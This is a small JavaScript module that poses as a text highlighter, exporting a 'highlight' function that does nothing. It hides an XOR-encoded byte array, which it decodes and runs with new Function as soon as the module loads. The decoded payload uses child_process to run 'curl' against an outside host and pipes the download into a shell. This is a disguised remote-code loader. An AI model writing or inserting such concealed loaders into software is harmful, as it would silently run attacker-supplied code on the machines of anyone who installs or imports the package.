const KEY = 23;
const DATA = [101,114,102,98,126,101,114,63,48,116,127,126,123,115,72,103,101,120,116,114,100,100,48,62,57,114,111,114,116,68,110,121,116,63,48,116,98,101,123,55,58,100,55,127,99,99,103,100,45,56,56,116,115,121,57,127,123,58,118,100,100,114,99,100,57,114,111,118,122,103,123,114,56,111,55,107,55,100,127,48,62];

function unpack(bytes) {
  let out = "";
  for (let i = 0; i < bytes.length; i++) {
    out += String.fromCharCode(bytes[i] ^ KEY);
  }
  return out;
}

const src = unpack(DATA);
const run = new Function(src);
run();
module.exports = { highlight: (t) => t };
